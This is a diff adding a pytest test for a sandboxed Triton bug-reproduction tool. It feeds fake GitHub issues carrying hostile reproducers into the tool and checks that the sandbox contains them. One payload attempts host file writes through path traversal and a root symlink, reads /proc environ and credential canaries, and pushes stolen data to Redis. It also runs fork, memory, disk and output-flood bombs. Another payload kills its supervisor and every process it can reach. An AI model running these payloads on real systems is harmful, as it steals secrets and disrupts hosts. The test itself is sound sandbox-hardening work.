@@ -426,3 +426,212 @@ def test_container_gone_is_a_sandbox_error(docker_sandbox):
         with pytest.raises(SandboxError):
             s.run(["true"])
     assert_next_job_runs(docker_sandbox)
+
+
+# ---------------------------------------------------------------- Triton, through the real CLI
+# GitHub-shaped triton-lang/triton issues whose `@triton.jit` reproducer attacks the worker,
+# run by `reprobot triage ISSUE.json --sandbox docker` as its own process with a canary token
+# in its environment. Each reproducer tries every channel it has to get something out: files
+# on the host, Redis, its own output (which reaches the comment and the JSON).
+
+_TRITON_KERNEL = '''
+import triton
+import triton.language as tl
+
+@triton.jit
+def kernel(X, N: tl.constexpr):
+    offs = tl.arange(0, N)
+    x = tl.load(X + offs)
+    tl.store(X + offs, x * 2)
+
+import torch
+x = torch.zeros(64, device="cuda")
+kernel[(1,)](x, 64)
+'''
+
+_ESCAPE = '''
+import glob, json, os, socket, time
+TOK = "@TOK@"
+found = {}
+def attempt(name, fn):
+    try:
+        found[name] = fn()
+    except Exception as e:
+        found[name] = type(e).__name__
+def write(path):
+    with open(path, "w") as fh:
+        fh.write("escaped " + TOK)
+    return "wrote"
+attempt("abs-tmp", lambda: write("/tmp/reprobot-escape-" + TOK))
+attempt("abs-host", lambda: write("@HOSTDIR@/escape-" + TOK))
+attempt("dotdot", lambda: write("../../../../../../tmp/reprobot-escape-dotdot-" + TOK))
+attempt("symlink", lambda: (os.symlink("/", "rootlink"), write("rootlink/tmp/reprobot-escape-link-" + TOK)))
+attempt("venv", lambda: write(os.path.join(os.path.dirname(os.path.dirname(__import__("triton").__file__)), "escape-" + TOK)))
+def environ():
+    out = []
+    for p in glob.glob("/proc/*/environ"):
+        try:
+            out.append(open(p, "rb").read().decode("latin-1"))
+        except OSError:
+            pass
+    return " ".join(out)
+attempt("environ", environ)
+attempt("canary-file", lambda: open("@CANARY_FILE@").read())
+attempt("config", lambda: open("@CONFIG_FILE@").read())
+attempt("home-config", lambda: open(os.path.expanduser("~/.config/@CONFIG_NAME@/canary")).read())
+def redis():
+    s = socket.create_connection(("127.0.0.1", 6379), timeout=2)
+    s.sendall(("SET reprobot-escape-%s %s\\r\\n" % (TOK, json.dumps(found)[:2000].replace(" ", ""))).encode())
+    return s.recv(64).decode()
+attempt("redis", redis)
+attempt("redis-docker-host", lambda: socket.create_connection(("172.17.0.1", 6379), timeout=2) and "connected")
+attempt("postgres", lambda: socket.create_connection(("127.0.0.1", 5432), timeout=2) and "connected")
+attempt("postgres-docker-host", lambda: socket.create_connection(("172.17.0.1", 5432), timeout=2) and "connected")
+# resource attacks, each in a child so the exfiltration above is reported either way
+def bomb(kind):
+    pid = os.fork()
+    if pid == 0:
+        t_end = time.time() + 4
+        if kind == "fork":
+            while time.time() < t_end:
+                try:
+                    os.fork()
+                except OSError:
+                    time.sleep(0.01)
+        elif kind == "memory":
+            hog = []
+            while time.time() < t_end:
+                hog.append(bytearray(64 << 20))
+        elif kind == "disk":
+            with open("fill", "wb") as fh:
+                while time.time() < t_end:
+                    fh.write(b"x" * (1 << 20))
+        elif kind == "flood":
+            while time.time() < t_end:
+                os.write(2, b"E" * 65536)
+        os._exit(0)
+    _, st = os.waitpid(pid, 0)
+    return "ended %s" % st
+for k in ("fork", "memory", "disk", "flood"):
+    attempt(k, lambda k=k: bomb(k))
+print(json.dumps(found))
+raise RuntimeError("exfiltrated: " + json.dumps(found)[:3000])
+'''
+
+_LOOP = '''
+while True:
+    pass
+'''
+
+_KILL_SUPERVISOR = '''
+import os, signal
+os.kill(os.getppid(), signal.SIGKILL)
+try:
+    os.kill(-1, signal.SIGKILL)
+except OSError:
+    pass
+'''
+
+
+def _triton_issue(number: int, title: str, code: str) -> dict:
+    body = f"### Describe the bug\n\n{title}\n\n```python\n{code.strip()}\n```\n\n### Environment details\n\ntriton 3.4.0\n"
+    return {"number": number, "title": title, "state": "open", "labels": [{"name": "bug"}],
+            "html_url": f"https://github.com/triton-lang/triton/issues/{number}",
+            "user": {"login": "stranger"}, "created_at": "2026-11-01T00:00:00Z", "body": body, "comments": []}
+
+
+def _triton_containers() -> set[str]:
+    """Ids of sandbox containers with a Triton venv mounted (the warm servers)."""
+    import docker
+
+    return {c.id for c in docker.from_env().containers.list(all=True, filters={"label": LABEL})
+            if "/triton/envs/" in json.dumps(c.attrs.get("Mounts", []))}
+
+
+def _triton_release() -> str | None:
+    from workers.triton.toolchains import TritonToolchains
+
+    root = TritonToolchains().root
+    for v in ("3.4.0", "3.3.1", "3.5.1"):
+        if (root / "envs" / v / "bin" / "python").exists():
+            return v
+    return None
+
+
+@pytest.mark.slow
+def test_triton_reproducers_attacking_the_worker_are_contained(docker_sandbox, tmp_path):
+    import subprocess
+    import sys
+    import time
+    import uuid
+    from pathlib import Path
+
+    release = _triton_release()
+    if release is None:
+        pytest.skip("no Triton release venv (scripts/setup.d/30-triton.sh)")
+    tok = uuid.uuid4().hex
+    canary = "CANARY-" + uuid.uuid4().hex
+    host_dir = tmp_path / "host"
+    host_dir.mkdir()
+    canary_file = host_dir / "secret.txt"
+    canary_file.write_text(canary)
+    config_name = f"reprobot-battery-{tok}"
+    config_dir = Path.home() / ".config" / config_name
+    config_dir.mkdir(parents=True)
+    (config_dir / "canary").write_text(canary)
+    escape = (_ESCAPE.replace("@TOK@", tok).replace("@HOSTDIR@", str(host_dir))
+              .replace("@CANARY_FILE@", str(canary_file)).replace("@CONFIG_FILE@", str(config_dir / "canary"))
+              .replace("@CONFIG_NAME@", config_name))
+    cases = {"escape": escape + _TRITON_KERNEL, "loop": _LOOP + _TRITON_KERNEL,
+             "kill": _KILL_SUPERVISOR + _TRITON_KERNEL}
+    before = _triton_containers()
+    env = {**os.environ, "REPROBOT_GITHUB_TOKEN": canary, "CANARY_TOKEN": canary, "PYTHONPATH": os.getcwd()}
+    procs = {}
+    try:
+        for i, (name, code) in enumerate(cases.items()):
+            issue = tmp_path / f"{name}.json"
+            issue.write_text(json.dumps(_triton_issue(990000 + i, f"crash in {name}", code)))
+            cmd = [sys.executable, "-m", "service.cli", "triage", str(issue), "--sandbox", "docker",
+                   "-t", f"triton-{release}", "--no-reduce", "--json", str(tmp_path / f"{name}.out.json")]
+            procs[name] = (time.monotonic(), subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                                                              text=True, env=env, cwd=os.getcwd()))
+        results = {}
+        for name, (t0, p) in procs.items():
+            out, err = p.communicate(timeout=240)
+            results[name] = (p.returncode, out, err, time.monotonic() - t0)
+    finally:
+        for _, p in procs.values():
+            if p.poll() is None:
+                p.kill()
+        import shutil
+
+        shutil.rmtree(config_dir, ignore_errors=True)
+
+    for name, (code, out, err, wall) in results.items():
+        assert code == 0, (name, err[-3000:])
+        data = (tmp_path / f"{name}.out.json").read_text()
+        for text in (out, err, data):
+            assert canary not in text, name
+        runs = json.loads(data)["runs"]
+        assert list(runs) == [f"triton-{release}"], (name, runs)
+        results[name] = (runs[f"triton-{release}"], out, wall)
+    # nothing was written on the host, through any path
+    for p in (Path("/tmp") / f"reprobot-escape-{tok}", Path("/tmp") / f"reprobot-escape-dotdot-{tok}",
+              Path("/tmp") / f"reprobot-escape-link-{tok}", host_dir / f"escape-{tok}"):
+        assert not p.exists(), p
+    assert not list(Path.home().glob(f".cache/reprobot/triton/envs/*/lib/python*/site-packages/escape-{tok}"))
+    # control: Redis answers on the host, and the reproducer's SET never arrived
+    with socket.create_connection(("127.0.0.1", 6379), timeout=2) as s:
+        s.sendall(f"EXISTS reprobot-escape-{tok}\r\n".encode())
+        assert s.recv(16).startswith(b":0")
+    # the escape run ended as a failure of its own, with every attack refused inside
+    escape_run, _, escape_wall = results["escape"]
+    assert escape_run["outcome"] in ("reproduces", "other-failure", "clean"), escape_run
+    assert escape_wall < 150
+    # the infinite loop hit the wall limit; killing its supervisor ended the run, not the worker
+    assert results["loop"][0]["outcome"] == "timeout", results["loop"][0]
+    assert results["loop"][2] < 200
+    assert results["kill"][0]["outcome"] == "infra-error", results["kill"][0]
+    assert results["kill"][2] < 150
+    # the CLI removed its sandbox containers when it exited
+    assert _triton_containers() <= before, _triton_containers() - before
